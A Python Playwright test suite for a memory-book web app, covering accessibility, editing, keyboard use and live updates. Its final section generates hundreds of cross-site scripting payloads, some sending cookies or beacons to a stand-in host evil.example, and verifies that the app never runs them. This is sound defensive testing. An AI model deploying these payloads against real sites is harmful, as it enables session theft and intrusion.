from __future__ import annotations

import re
import time
from collections.abc import Callable
from contextlib import suppress
from itertools import cycle, product
from pathlib import Path
from typing import Any
from urllib.parse import quote

import pytest
from axe_playwright_python.sync_playwright import Axe  # type: ignore[import-untyped]
from playwright.sync_api import Browser, expect

import memorybook
from browser.conftest import opened, said, small, visit
from memorybook.config.settings import Config
from memorybook.errors import MemoryBookError
from memorybook.http.page.page_routes import VIEWS
from serving import Served, serving

MOST = 200_000
"""Bytes of a page, with all that it loads."""

OPEN = [view.path for view in VIEWS if "{" not in view.path]


def places(served: Served) -> list[str]:
    """Every view of a book, with something to show where it takes a name or a question."""
    entries = served.client.get("/entries", params={"limit": 1}).json().get("entries", ())
    sessions = served.client.get("/sessions", params={"limit": 1}).json().get("sessions", ())
    more = [f"/memories/{known['entry']['id']}" for known in entries]
    more += [f"/conversations/{one['uuid']}" for one in sessions]
    return [*OPEN, *more, "/?q=port", "/search?q=port&beside=yes", "/memories?q=port", "/river?at=2026-01-01"]


@pytest.mark.parametrize("size", ["week", "years", "nothing"])
@pytest.mark.parametrize("lang", ["en", "zh"])
def test_every_view_shows_a_book_of_any_size(
    browser: Browser, size: str, lang: str, request: pytest.FixtureRequest
) -> None:
    served: Served = request.getfixturevalue(size)
    with opened(browser, served, lang=lang) as context:
        for place in places(served):
            seen = visit(context, served, place)
            assert seen.status == 200, place
            assert seen.page.locator("h1").count() == 1, place
            assert seen.bytes <= MOST, f"{place}: {seen.bytes} bytes"
            assert seen.wrong == [], place
            seen.page.close()


@pytest.mark.parametrize(("theme", "width"), [("light", 1280), ("dark", 1280), ("light", 400)])
def test_nothing_serious_stands_in_the_way_of_anybody(browser: Browser, week: Served, theme: str, width: int) -> None:
    with opened(browser, week, theme=theme, viewport={"width": width, "height": 900}) as context:
        for place in places(week):
            page = visit(context, week, place).page
            found = Axe().run(page).response["violations"]
            grave = [(one["id"], [node["html"][:160] for node in one["nodes"]]) for one in found if is_grave(one)]
            assert grave == [], place
            assert page.evaluate("document.documentElement.scrollWidth <= innerWidth + 1"), f"{place} is too wide"
            page.close()


def is_grave(found: dict[str, Any]) -> bool:
    return found["impact"] in ("serious", "critical")


def test_every_view_works_without_a_script(browser: Browser, week: Served) -> None:
    with opened(browser, week, java_script_enabled=False) as context:
        for place in places(week):
            seen = visit(context, week, place)
            assert seen.status == 200
            seen.page.close()
        page = visit(context, week, "/memories").page
        page.get_by_text("Add a memory").click()
        page.locator("main textarea[name=text]").fill("The spare key hangs in the shed.")
        page.get_by_role("button", name="Remember").click()
        expect(page.locator(".said")).to_have_text("The spare key hangs in the shed.")
        page.get_by_role("button", name="Undo").click()
        expect(page.get_by_role("status")).to_contain_text("Done.")


# --- tending ---------------------------------------------------------------------------------------


@pytest.fixture
def own(tmp_path: Path) -> Any:
    with serving(small(tmp_path / "book")) as served:
        yield served


def entry(served: Served, words: str) -> dict[str, Any]:
    found = served.client.get("/entries").json()["entries"]
    return next(known["entry"] for known in found if words in known["entry"]["text"])


def test_a_memory_is_edited_and_the_edit_undone(browser: Browser, own: Served) -> None:
    id = entry(own, "plumber")["id"]
    with opened(browser, own) as context:
        page = visit(context, own, f"/memories/{id}").page
        page.get_by_text("Edit", exact=True).click()
        page.locator("main textarea[name=text]").fill("Call the plumber about the bath tap on Monday")
        page.get_by_role("button", name="Save").click()
        expect(page.locator(".said")).to_have_text("Call the plumber about the bath tap on Monday")
        page.get_by_role("button", name="Undo").click()
        expect(page.locator(".said")).to_have_text("Call the plumber about the tap")
    assert entry(own, "plumber")["text"] == "Call the plumber about the tap"


def test_a_change_in_the_file_is_shown_and_not_overwritten(browser: Browser, own: Served) -> None:
    id = entry(own, "plumber")["id"]
    file = Path(own.books.root) / "MEMORY.md"
    with opened(browser, own) as context:
        page = visit(context, own, f"/memories/{id}").page
        page.get_by_text("Edit", exact=True).click()
        page.locator("main textarea[name=text]").fill("Call the electrician")
        text = file.read_text(encoding="utf-8").replace("about the tap", "about the boiler")
        file.write_text(text, encoding="utf-8")
        expect(page.locator("#stale")).to_be_in_viewport()
        page.get_by_role("button", name="Save").click()
        expect(page.get_by_role("heading", level=1)).to_have_text("Changed meanwhile")
        assert entry(own, "plumber")["text"] == "Call the plumber about the boiler"
        page.get_by_role("button", name="Replace it with mine").click()
        expect(page.locator(".said")).to_have_text("Call the electrician")


def test_a_change_by_an_editor_appears_by_itself(browser: Browser, own: Served) -> None:
    file = Path(own.books.root) / "MEMORY.md"
    with opened(browser, own) as context:
        page = visit(context, own, "/memories").page
        page.wait_for_timeout(2_000)  # until the stream knows how it was
        text = file.read_text(encoding="utf-8").replace("about the tap", "about the gutter")
        file.write_text(text, encoding="utf-8")
        expect(page.get_by_text("Call the plumber about the gutter")).to_be_visible(timeout=15_000)
        said(Path(own.books.root), "later", [{"role": "user", "content": "Remember that Ada moved to Oslo."}])
        expect(page.get_by_text("Ada moved to Oslo")).to_be_visible(timeout=15_000)


def test_a_hidden_page_holds_no_stream_and_is_up_to_date_when_it_is_shown(browser: Browser, own: Served) -> None:
    def streams() -> int:
        metrics = own.client.get(f"{own.url}/metrics").text
        return int(float(re.findall(r"^memorybook_requests_now ([0-9.]+)", metrics, re.MULTILINE)[0])) - 1

    def set_hidden(value: str) -> None:
        page.evaluate(f"Object.defineProperty(document, 'hidden', {{value: {value}, configurable: true}})")
        page.evaluate("document.dispatchEvent(new Event('visibilitychange'))")

    with opened(browser, own) as context:
        page = visit(context, own, "/memories").page
        until(lambda: streams() == 1)
        set_hidden("true")
        until(lambda: streams() == 0)
        own.client.post("/entries", json={"text": "The rota hangs in the kitchen."})
        page.wait_for_timeout(2_500)
        expect(page.get_by_text("The rota hangs in the kitchen.")).to_have_count(0)
        set_hidden("false")
        expect(page.get_by_text("The rota hangs in the kitchen.")).to_be_visible()
        assert streams() == 1


def until(holds: Callable[[], bool]) -> None:
    """Wait for it, 15 seconds at most."""
    for _ in range(150):
        if holds():
            return
        time.sleep(0.1)
    raise AssertionError("it did not come about")


def test_what_is_forgotten_is_gone_and_comes_back(browser: Browser, own: Served) -> None:
    id = entry(own, "plumber")["id"]
    with opened(browser, own) as context:
        page = visit(context, own, f"/memories/{id}").page
        page.get_by_role("link", name="Forget", exact=True).last.click()
        expect(page.get_by_text("Call the plumber about the tap").first).to_be_visible()
        page.locator("form[action='/act/forget'] button").first.click()
        expect(page.get_by_role("status").first).to_be_visible()
        assert not [known for known in own.client.get("/entries").json()["entries"] if known["entry"]["id"] == id]
        page.get_by_role("button", name="Undo").first.click()
        expect(page.get_by_role("status").first).to_contain_text("Done.")
    assert entry(own, "plumber")["id"] == id


def test_what_waits_is_decided_by_key_one_by_one_and_together(browser: Browser, own: Served) -> None:
    waiting = own.client.get("/proposals").json()["proposals"]
    assert len(waiting) >= 3
    with opened(browser, own) as context:
        page = visit(context, own, "/review").page
        rows = page.locator("[data-row]")
        before = rows.count()
        page.keyboard.press("j")
        page.keyboard.press("a")
        expect(rows).to_have_count(before - 1)
        page.keyboard.press("j")
        page.keyboard.press("r")
        expect(rows).to_have_count(before - 2)
        page.locator("[data-check-all]").check()
        page.locator("button[name=word][value=reject]").click()
        expect(rows).to_have_count(0)
    assert own.client.get("/proposals").json()["proposals"] == []


def test_keys_lead_everywhere(browser: Browser, week: Served) -> None:
    with opened(browser, week) as context:
        page = visit(context, week, "/memories").page
        page.keyboard.press("/")
        expect(page.locator("#q")).to_be_focused()
        page.locator("#q").press("Escape")
        page.locator("h1").click()
        page.keyboard.press("j")
        page.keyboard.press("j")
        page.keyboard.press("k")
        page.keyboard.press("Enter")
        expect(page.get_by_role("heading", level=1)).to_have_text("Why this is here")
        expect(page.locator("[data-palette]")).to_be_visible()  # the script of the page that was opened has run
        page.keyboard.press("?")
        page.keyboard.type("nothing")
        expect(page.locator("#palette input")).to_have_value("nothing")
        page.keyboard.press("Escape")
        expect(page.locator("#palette")).to_be_hidden()
        page.keyboard.press("Control+k")
        page.keyboard.type("staging port")
        page.get_by_role("link", name="Search for “staging port”").click()
        expect(page.locator("input[name=q]")).to_have_value("staging port")


def test_a_memory_is_found_edited_and_brought_back_by_keys_alone(browser: Browser, own: Served) -> None:
    with opened(browser, own) as context:
        page = context.new_page()
        page.goto(own.url)
        page.keyboard.press("/")
        page.keyboard.type("whom shall I call")
        page.keyboard.press("Shift+Enter")
        page.keyboard.type("about the tap?")
        page.keyboard.press("Enter")
        expect(page).to_have_url(f"{own.url}/?q=whom+shall+I+call%0D%0Aabout+the+tap%3F&tokens=2000")
        page.goto(f"{own.url}/memories")
        page.keyboard.press("/")
        page.keyboard.type("plumber")
        expect(page.locator("tr[data-row]")).to_have_count(1)
        for key in ("Escape", "j", "Enter"):
            page.keyboard.press(key)
        expect(page.get_by_role("heading", level=1)).to_have_text("Why this is here")
        expect(page.locator("[data-palette]")).to_be_visible()
        page.keyboard.press("e")
        expect(page.locator("main textarea")).to_be_focused()
        page.keyboard.press("Control+End")
        page.keyboard.type(" tomorrow")
        page.keyboard.press("Control+Enter")
        expect(page.locator(".said")).to_have_text("Call the plumber about the tap tomorrow")
        expect(page.locator("[data-palette]")).to_be_visible()
        page.keyboard.press("u")
        expect(page.locator(".said")).to_have_text("Call the plumber about the tap")
        expect(page.locator("[data-palette]")).to_be_visible()
        page.keyboard.press("f")
        expect(page.get_by_role("heading", name="What would go")).to_be_visible()


def test_the_filter_narrows_while_one_types(browser: Browser, years: Served) -> None:
    with opened(browser, years) as context:
        page = visit(context, years, "/memories").page
        page.locator("#q").press_sequentially("number 4711")
        expect(page.get_by_text("1 found")).to_be_visible(timeout=15_000)
        expect(page).to_have_url(
            f"{years.url}/memories?q=number+4711&category=&state=active&sort=strength&trust=&group=&tag=&since=&until="
        )
        page.go_back()
        expect(page.locator("#q")).to_have_value("")
        page.locator("#filter [name=state]").select_option("archived")
        expect(page).to_have_url(re.compile("[?&]state=archived&"))
        page.keyboard.press("Control+k")
        expect(page.locator("#palette")).to_be_visible()


def test_an_empty_book_shows_the_demo_until_one_starts(browser: Browser, tmp_path: Path) -> None:
    with serving(tmp_path / "book") as served, opened(browser, served, own=False) as context:
        page = visit(context, served, "/memories").page
        expect(page.get_by_text("this is the demo book")).to_be_visible()
        assert page.locator("tr[data-row]").count() > 2
        page.get_by_role("link", name="Start with my own").click()
        expect(page.get_by_text("0 entries in this book")).to_be_visible()
        assert not (tmp_path / "book").exists()


# --- trust -----------------------------------------------------------------------------------------

SCRIPTS = """
<script>{}</script>
<ScRiPt src={}></sCrIpT>
<img src=x onerror={}>
<svg onload={}>
<body onload={}>
<iframe srcdoc='<script>{}</script>'>
<a href='javascript:{}'>x</a>
<math href='javascript:{}'>x</math>
<details open ontoggle={}>
<video><source onerror={}>
<input autofocus onfocus={}>
<style>@import '{}'</style>
<object data='javascript:{}'>
<embed src='javascript:{}'>
<form action='javascript:{}'><button>x</form>
<link rel=stylesheet href='{}'>
<meta http-equiv=refresh content='0;url={}'>
<base href='{}'>
[x](javascript:{})
![x]({})
[x]({} "onmouseover=1")
<{}>
[x]: {} [x]
`{}`
{{{{ {} }}}}
{{% {} %}}
" autofocus onfocus="{}
' onmouseover='{}
--><script>{}</script>
]]><script>{}</script>
</title><script>{}</script>
</textarea><script>{}</script>
</select><img src=x onerror={}>
&lt;script&gt;{}&lt;/script&gt;
%3Cscript%3E{}%3C/script%3E
\u202e<script>{}</script>
<div hx-get='/live' hx-trigger='load' hx-on:load='{}'>
<svg><a xlink:href='javascript:{}'><text>x</text></a></svg>
""".strip().splitlines()
DOES = """
window.ran=1
fetch('http://evil.example/')
http://evil.example/x.js
//evil.example/x.png
data:text/html,<script>parent.ran=1</script>
location='http://evil.example/'
top['ran']=1
import('http://evil.example/x.js')
new Image().src='http://evil.example/?'+document.cookie
document.forms[0].submit()
eval('ran=1')
navigator.sendBeacon('http://evil.example/')
setTimeout('ran=1')
globalThis.ran=1;//
""".strip().splitlines()
HOSTILE = [script.format(does) for script, does in product(SCRIPTS, DOES)]
"""What an attacker might have had remembered."""


def hostile_book(root: Path) -> None:
    """A book that is full of them: conversations, speakers, entries, tags, groups, documents and their paths."""
    said(root, HOSTILE[0], [{"role": "user", "speaker": HOSTILE[1], "content": text} for text in HOSTILE])
    with memorybook.open(root, config=Config(backend="sqlite_fts"), door="cli") as memory:
        for number in range(0, len(HOSTILE), 12):
            text, tag, group, path = HOSTILE[number : number + 4]
            memory.remember(f"{text} no. {number}", tags=[tag[:40].replace(",", " ")], group=group[:60])
            with suppress(MemoryBookError):  # some are no path at all
                memory.write_document(
                    f"notes/{path.replace('/', ' ')[:60]}.md", "\n\n".join(HOSTILE[number : number + 12])
                )


@pytest.mark.timeout(400)  # a hundred and more pages
def test_no_text_of_a_memory_runs_or_asks_for_anything(browser: Browser, tmp_path: Path) -> None:
    assert len(HOSTILE) >= 500
    hostile_book(tmp_path / "book")
    with serving(tmp_path / "book") as served, opened(browser, served) as context:
        entries = [known["entry"]["id"] for known in served.client.get("/entries").json()["entries"]]
        assert len(entries) > 20
        session = quote(served.client.get("/sessions").json()["sessions"][0]["uuid"])
        shown = [*places(served), *(f"/conversations/{session}?page={page}" for page in (1, 2, 3))]
        shown += [f"/memories/{id}" for id in entries[:25]] + [f"/memories?state=&page={page}" for page in (1, 2)]
        asked = [quote(text) for text in HOSTILE[::9]]
        views = cycle(("/?q=", "/search?q=", "/memories?q=", "/forget?query=", "/history?id=", "/nowhere/"))
        shown += [f"{view}{text}" for view, text in zip(views, asked, strict=False)]
        for place in shown:
            seen = visit(context, served, place)
            assert not seen.page.evaluate("'ran' in window"), place
            assert [text for text in seen.wrong if "status of 40" not in text] == [], place
            seen.page.close()
